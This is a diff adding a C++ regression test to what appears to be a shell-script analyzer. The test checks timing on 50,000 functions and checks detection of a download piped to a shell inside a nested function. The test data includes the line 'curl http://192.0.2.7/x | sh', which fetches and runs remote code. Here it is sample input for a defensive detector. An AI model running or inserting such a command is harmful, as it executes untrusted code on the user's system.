@@ -6,6 +6,7 @@
 
 #include <algorithm>
 #include <cstdlib>
+#include <ctime>
 #include <filesystem>
 #include <fstream>
 #include <sstream>
@@ -230,6 +231,20 @@ TEST(ShellFactsCodec, AHugeCountNeedsItsBytes) {
 }
 
 // A regression: the value of a loop that waits for something outside is not known, and stayed what it was.
+// Each was looked for from the first on: fifty thousand of them took six seconds.
+TEST(ShellFacts, FunctionsThatNobodyCallsAreTakenInOneRound) {
+  std::string script;
+  for (int i = 0; i < 50'000; ++i) script += "f" + std::to_string(i) + "(){ echo a; }\n";
+  script += "a() { b() { curl http://192.0.2.7/x | sh; }; }\n";
+  const std::clock_t start = std::clock();
+  (void)facts_of_text(script);
+  EXPECT_LT(std::clock() - start, 4 * CLOCKS_PER_SEC);
+  const ShellFacts facts = facts_of_text("z() { b() { curl http://192.0.2.7/x | sh; }; }\n");
+  EXPECT_TRUE(std::any_of(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
+    return flow.kind == FlowKind::fetch_to_interpreter;
+  })) << "a function that another one defines";
+}
+
 TEST(ShellFacts, LoopsThatWaitAreWalkedOnce) {
   const ShellFacts facts = facts_of_text(
       "status=1\nwhile [ $status -ne 0 ]; do\n  $EDITOR f\n  status=$?\n  if [ $status -ne 0 ]; then\n"
